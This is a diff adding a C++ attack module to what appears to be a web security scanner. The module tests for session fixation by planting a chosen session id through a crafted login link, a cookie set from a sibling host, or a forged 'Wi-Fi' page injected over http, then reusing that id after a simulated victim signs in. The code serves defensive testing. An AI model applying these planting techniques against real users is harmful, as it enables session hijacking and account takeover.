@@ -1,0 +1,81 @@
+// session-fixation: gives the victim a session id before he signs in, and uses it after (OWASP
+// Session Fixation; ASVS 5.0, 7.2.4). By a link that carries it, by a cookie from a sibling host,
+// by a cookie in an answer of the app's over http that the attacker writes himself.
+#include "core/attack/every_agent.h"
+#include "core/attack/lure.h"
+#include "core/attack/request_writer.h"
+#include "core/attack/session.h"
+#include "core/attack/stolen.h"
+
+namespace parapet::attack {
+namespace {
+
+class SessionFixation final : public Agent {
+    void run(Target& target) override {
+        if (target.victim() == nullptr) return;
+        for (Credential const& id : ids(target)) {
+            plant_by_link(target, id);
+            plant_by_sibling(target, id);
+            plant_on_the_line(target, id);
+            if (!victim_signs_in(target)) continue;
+            use(target, {id});
+            target.note("The victim signed in with \"" + id.name +
+                        "\" of the attacker's choice, if "
+                        "his browser took it.");
+        }
+    }
+
+    // Those that the app gives to visitors, and invented ones for apps that take any.
+    static Credentials ids(Target& target) {
+        Credentials ids;
+        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
+        Credentials const own = own_credentials(target);
+        target.forget_cookies();
+        if (login != nullptr) ids = credentials_in(target.send({.target = login->path}));
+        std::erase_if(ids,
+                      [](Credential const& each) { return each.kind != Credential::Kind::Cookie; });
+        for (Credential each : own) {
+            if (each.kind != Credential::Kind::Cookie || is_for_refresh(each)) continue;
+            // An id is often checked by its looks: the same letters, others of them.
+            for (char& c : each.value)
+                if (c != '.' && c != '-' && c != '%') c = 'b';
+            ids.push_back(std::move(each));
+        }
+        return ids;
+    }
+
+    static void plant_by_link(Target& target, Credential const& id) {
+        Endpoint const* login = endpoint_option(target, option::kLogin, "login");
+        if (login == nullptr) return;
+        target.victim()->opens("https://" + target.surface().host + login->path + "?" +
+                               http::serialize_query({{id.name, id.value}}));
+        target.victim()->turns_away();
+    }
+
+    static std::string cookie_line(Target const& target, Credential const& id) {
+        return id.name + "=" + id.value + "; Domain=" + target.surface().host + "; Path=/";
+    }
+
+    static void plant_by_sibling(Target& target, Credential const& id) {
+        OwnHost* sibling = sibling_host(target);
+        if (sibling == nullptr) return;
+        Lure(target, *sibling).show("<h1>News</h1>", {{"set-cookie", cookie_line(target, id)}});
+    }
+
+    static void plant_on_the_line(Target& target, Credential const& id) {
+        if (target.line() == nullptr) return;
+        std::string const line = id.name + "=" + id.value + "; Path=/";
+        target.line()->meddle([line](http::Request const&, Line::Beyond const&) {
+            return page("<h1>Welcome to the Wi-Fi</h1>", {{"set-cookie", line}});
+        });
+        target.victim()->opens("http://" + target.surface().host + "/");
+        target.victim()->turns_away();
+        target.line()->leave();
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_session_fixation() { return std::make_unique<SessionFixation>(); }
+
+}  // namespace parapet::attack
